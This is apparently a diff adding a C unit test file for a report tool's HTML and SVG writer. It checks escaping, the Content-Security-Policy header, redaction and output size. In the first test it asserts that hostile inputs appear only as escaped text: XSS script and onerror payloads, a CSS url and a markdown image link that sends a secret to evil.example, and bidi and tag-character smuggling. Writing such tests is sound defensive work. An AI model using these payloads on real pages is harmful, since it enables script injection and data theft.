@@ -1,0 +1,351 @@
+/*
+ * test_html.c — the HTML writer (reports/html.c) and its charts
+ * (reports/svg.c): hostile strings stay text, the page is self-contained,
+ * bounded and deterministic.
+ */
+#include "config.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include <ctype.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include "reports/html.h"
+#include "reports/svg.h"
+#include "tests/unit/report_fixture.h"
+
+static char *render(const report *r)
+{
+	lt_status st = LT_EFATAL;
+	char *out = fixture_render(report_write_html, r, &st);
+	assert_int_equal(st, LT_OK);
+	assert_non_null(out);
+	return out;
+}
+
+static char *lower(const char *s)
+{
+	char *l = strdup(s);
+	assert_non_null(l);
+	for (char *p = l; *p; p++)
+		*p = (char)tolower((unsigned char)*p);
+	return l;
+}
+
+#define ESC(x) "<span class=\"esc\">" x "</span>"
+
+static void html__hostile__payloads_are_text(void **state)
+{
+	(void)state;
+	report *r = fixture_hostile();
+	assert_non_null(r);
+	char *out = render(r);
+	assert_non_null(strstr(out, "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
+	assert_non_null(strstr(out, "&quot;&gt;&lt;img src=x onerror=&quot;document.title=&#39;img&#39;&quot;&gt;"));
+	assert_non_null(strstr(out, "&lt;/style&gt;&lt;script&gt;document.title=&#39;style&#39;&lt;/script&gt;"));
+	assert_non_null(strstr(out, "red;}&lt;/style&gt;&lt;style&gt;body{background:url(https://evil.example/css)}"));
+	assert_non_null(strstr(out, "evil" ESC("\\u202E") "txt.exe" ESC("\\u2066") "iso" ESC("\\u2069")));
+	assert_non_null(strstr(out, "nul" ESC("\\x00") "ctl" ESC("\\x01") ESC("\\x1B") "[31m"));
+	assert_non_null(strstr(out, "bad" ESC("\\xFF") ESC("\\xFE") ESC("\\xC0") ESC("\\xAF") "utf8"));
+	assert_non_null(strstr(out, "tag" ESC("\\u{E0041}") "smuggle"));
+	assert_non_null(strstr(out, "![x](https://evil.example/?q=secret)"));
+	assert_non_null(strstr(out, "]]&gt;&lt;!-- --&gt;&amp;amp;&amp;#x3C;"));
+	/* inside SVG, escapes are plain text (a <span> would break out of <svg>) */
+	size_t svgs = 0;
+	for (const char *p = strstr(out, "<svg"); p != NULL; p = strstr(p + 1, "<svg")) {
+		const char *end = strstr(p, "</svg>");
+		assert_non_null(end);
+		const char *span = strstr(p, "<span");
+		assert_true(span == NULL || span > end);
+		svgs++;
+	}
+	assert_int_equal(svgs, 3); /* timeline + two dashboard charts */
+	free(out);
+	report_free(r);
+}
+
+/* Checks the attribute names of the tag at p (outside quoted values): no
+ * event handler, no src, no style attribute, and href only to a #fragment. */
+static void check_tag(const char *p)
+{
+	const char *q = p + 1;
+	while (*q && *q != ' ' && *q != '>')
+		q++;
+	while (*q && *q != '>') {
+		while (*q == ' ' || *q == '\n')
+			q++;
+		const char *name = q;
+		while (*q && *q != '=' && *q != ' ' && *q != '>')
+			q++;
+		size_t n = (size_t)(q - name);
+		assert_false(n >= 2 && name[0] == 'o' && name[1] == 'n');
+		assert_false(n == 3 && memcmp(name, "src", 3) == 0);
+		assert_false(n == 5 && memcmp(name, "style", 5) == 0);
+		if (*q == '=') {
+			q++;
+			assert_int_equal(*q, '"'); /* every value we write is double-quoted */
+			if (n == 4 && memcmp(name, "href", 4) == 0)
+				assert_int_equal(q[1], '#');
+			const char *close = strchr(q + 1, '"');
+			assert_non_null(close);
+			assert_null(memchr(q + 1, '<', (size_t)(close - q - 1)));
+			q = close + 1;
+		}
+	}
+	assert_int_equal(*q, '>');
+}
+
+/* Every tag in the page: no event handler, no URL but #fragment, no script. */
+static void html__hostile__only_our_markup(void **state)
+{
+	(void)state;
+	report *r = fixture_hostile();
+	char *out = render(r);
+	char *l = lower(out);
+	assert_null(strstr(l, "<script"));
+	assert_null(strstr(l, "<img"));
+	assert_null(strstr(l, "<iframe"));
+	assert_null(strstr(l, "<link"));
+	assert_null(strstr(l, "<a href=\"http"));
+	assert_null(strstr(l, "http-equiv=\"refresh"));
+	assert_int_equal(fixture_count(l, "<style"), 1);
+	assert_int_equal(fixture_count(l, "</style"), 1);
+	size_t tags = 0;
+	for (const char *p = strchr(l, '<'); p != NULL; p = strchr(p + 1, '<')) {
+		check_tag(p);
+		tags++;
+	}
+	assert_true(tags > 500);
+	free(l);
+	free(out);
+	report_free(r);
+}
+
+static void html__head__csp_and_charset(void **state)
+{
+	(void)state;
+	report *r = fixture_plain();
+	char *out = render(r);
+	assert_true(strncmp(out, "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
+	                         "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
+	                         "'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
+	                         "form-action 'none'\">\n",
+	                    strlen("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
+	                           "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
+	                           "'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
+	                           "form-action 'none'\">\n")) == 0);
+	assert_non_null(strstr(out, "@media print{"));
+	assert_non_null(strstr(out, "</html>\n"));
+	free(out);
+	report_free(r);
+}
+
+static void html__sections__all_present_in_order(void **state)
+{
+	(void)state;
+	report *r = fixture_plain();
+	char *out = render(r);
+	const char *ids[] = {"summary", "timeline", "findings", "dashboard", "integrity", "evidence", "rules", "problems"};
+	const char *prev = out;
+	for (size_t i = 0; i < sizeof ids / sizeof ids[0]; i++) {
+		char needle[64];
+		snprintf(needle, sizeof needle, "<section id=\"%s\">", ids[i]);
+		const char *at = strstr(out, needle);
+		assert_non_null(at);
+		assert_true(at > prev);
+		prev = at;
+	}
+	assert_non_null(strstr(out, "<p class=\"verdict fail\">FAIL: 2 findings at or above <b>high</b>"));
+	assert_non_null(strstr(out, "<svg class=\"chart\" viewBox=\"0 0 1000 260\""));
+	assert_non_null(strstr(out, "<span class=\"oc oc-unsupported\">unsupported</span>"));
+	assert_non_null(strstr(out, "condition references unknown selection &#39;sel2&#39;"));
+	assert_non_null(strstr(out, "<td class=\"ck-invalid\">invalid</td>"));
+	assert_non_null(strstr(out, "unterminated string at byte 17"));
+	assert_non_null(strstr(out, "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"));
+	assert_non_null(strstr(out, "<td class=\"num\">910.25</td>"));
+	free(out);
+	report_free(r);
+}
+
+static void html__match__marked_and_redacted(void **state)
+{
+	(void)state;
+	report *r = fixture_plain();
+	char *out = render(r);
+	assert_non_null(strstr(out, "please deploy with key <mark class=\"red\" title=\"redacted\">"
+	                            "AKIA\xE2\x80\xA6(20 chars)</mark> and secret"));
+	assert_non_null(strstr(out, "<mark>Access</mark>Denied"));
+	assert_null(strstr(out, "AKIAIOSFODNN7EXAMPLE"));
+	assert_null(strstr(out, "Redaction is off"));
+	free(out);
+	report_free(r);
+}
+
+static void html__no_redact__warns_and_shows(void **state)
+{
+	(void)state;
+	rpt_options o;
+	rpt_options_default(&o);
+	o.redact = false;
+	report *r = report_new(&o);
+	rpt_rule_in ri;
+	memset(&ri, 0, sizeof ri);
+	ri.pack = "p";
+	ri.id = "key";
+	ri.level = RPT_LEVEL_HIGH;
+	size_t k;
+	assert_int_equal(report_add_rule(r, &ri, &k, NULL), LT_OK);
+	rpt_event_in e;
+	rpt_event_init(&e);
+	e.time_us = FIXTURE_RUN_US;
+	rpt_match_in m = {rpt_s("prompt"), rpt_s("AKIAIOSFODNN7EXAMPLE"), 0, 20, true};
+	assert_int_equal(report_add_hit(r, k, NULL, 0, &e, &m, 1, NULL), LT_OK);
+	char *out = render(r);
+	assert_non_null(strstr(out, "<b>Redaction is off.</b>"));
+	assert_non_null(strstr(out, "<mark>AKIAIOSFODNN7EXAMPLE</mark>"));
+	free(out);
+	report_free(r);
+}
+
+static void html__empty__pass_and_placeholders(void **state)
+{
+	(void)state;
+	report *r = report_new(NULL);
+	char *out = render(r);
+	assert_non_null(strstr(out, "<p class=\"verdict pass\">PASS: no findings"));
+	assert_non_null(strstr(out, "No rule produced a finding."));
+	assert_non_null(strstr(out, "No events were counted for the timeline."));
+	assert_non_null(strstr(out, "None: every evidence file and member was read."));
+	assert_null(strstr(out, "id=\"dashboard\""));
+	free(out);
+	report_free(r);
+}
+
+static void html__same_model__same_bytes(void **state)
+{
+	(void)state;
+	report *r1 = fixture_hostile(), *r2 = fixture_hostile();
+	char *a = render(r1), *b = render(r2), *a2 = render(r1);
+	assert_string_equal(a, b);
+	assert_string_equal(a, a2);
+	free(a);
+	free(b);
+	free(a2);
+	report_free(r1);
+	report_free(r2);
+}
+
+static void html__10000_findings__bounded_and_counted(void **state)
+{
+	(void)state;
+	report *r = fixture_many(10000, 4);
+	assert_non_null(r);
+	clock_t t0 = clock();
+	char *out = render(r);
+	double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
+	size_t len = strlen(out);
+	printf("# 10000 findings / 4 rules: %zu bytes of HTML in %.3f s\n", len, secs);
+	assert_true(len < 8u * 1024 * 1024);
+	assert_int_equal(fixture_count(out, "<details class=\"finding\""), 4 * HTML_MAX_FINDINGS_PER_RULE);
+	assert_int_equal(fixture_count(out, "1,450 more finding(s) of this rule are not shown"), 4);
+	assert_non_null(strstr(out, "<b>10,000</b><span>findings</span>"));
+	free(out);
+	report_free(r);
+
+	r = fixture_many(10000, 2500); /* spread thin: the global budgets apply */
+	out = render(r);
+	len = strlen(out);
+	printf("# 10000 findings / 2500 rules: %zu bytes of HTML\n", len);
+	assert_true(len < 16u * 1024 * 1024);
+	assert_int_equal(fixture_count(out, "<details class=\"finding\""), 1000);
+	assert_int_equal(fixture_count(out, "<details class=\"rule\" open>"), 2500);
+	free(out);
+	report_free(r);
+}
+
+static void svg__fmt_num__no_locale_no_exponent(void **state)
+{
+	(void)state;
+	char b[40];
+	svg_fmt_num(3, b);
+	assert_string_equal(b, "3");
+	svg_fmt_num(-4.5, b);
+	assert_string_equal(b, "-4.5");
+	svg_fmt_num(0.25, b);
+	assert_string_equal(b, "0.25");
+	svg_fmt_num(1e15, b);
+	assert_string_equal(b, "1000000000000000");
+	svg_fmt_num(0.001, b);
+	assert_string_equal(b, "0");
+	svg_fmt_num(1.0 / 0.0, b);
+	assert_string_equal(b, "-");
+	assert_string_equal(svg_color(0), svg_color(8));
+}
+
+static lt_status timeline_writer(const report *r, FILE *f, lt_error *err)
+{
+	(void)err;
+	svg_timeline(f, r);
+	return LT_OK;
+}
+
+static char *render_timeline(const report *r)
+{
+	lt_status st;
+	char *out = fixture_render(timeline_writer, r, &st);
+	assert_non_null(out);
+	return out;
+}
+
+static void svg__timeline__step_fits_bars(void **state)
+{
+	(void)state;
+	report *r = report_new(NULL);
+	rpt_event_in e;
+	rpt_event_init(&e);
+	e.source = rpt_s("cloudtrail");
+	for (int d = 0; d < 60; d++) { /* 60 days: 1440 hours -> 12 h steps (120 bars) */
+		e.time_us = FIXTURE_RUN_US + (int64_t)d * 86400 * 1000000;
+		assert_int_equal(report_note_event(r, &e, NULL), LT_OK);
+	}
+	char *out = render_timeline(r);
+	assert_non_null(strstr(out, "Events per 12 hours"));
+	assert_true(fixture_count(out, "<g><title>") <= SVG_MAX_BARS);
+	assert_int_equal(fixture_count(out, "<rect x="), 60 + 1 /* legend */);
+	free(out);
+	e.source = rpt_s("<b>x</b>");
+	assert_int_equal(report_note_event(r, &e, NULL), LT_OK);
+	out = render_timeline(r);
+	const char *svg = strstr(out, "<svg");
+	assert_non_null(svg);
+	assert_non_null(strstr(svg, "&lt;b&gt;x&lt;/b&gt;"));
+	assert_null(strstr(svg, "<span"));
+	free(out);
+	report_free(r);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(html__hostile__payloads_are_text),
+		cmocka_unit_test(html__hostile__only_our_markup),
+		cmocka_unit_test(html__head__csp_and_charset),
+		cmocka_unit_test(html__sections__all_present_in_order),
+		cmocka_unit_test(html__match__marked_and_redacted),
+		cmocka_unit_test(html__no_redact__warns_and_shows),
+		cmocka_unit_test(html__empty__pass_and_placeholders),
+		cmocka_unit_test(html__same_model__same_bytes),
+		cmocka_unit_test(html__10000_findings__bounded_and_counted),
+		cmocka_unit_test(svg__fmt_num__no_locale_no_exponent),
+		cmocka_unit_test(svg__timeline__step_fits_bars),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
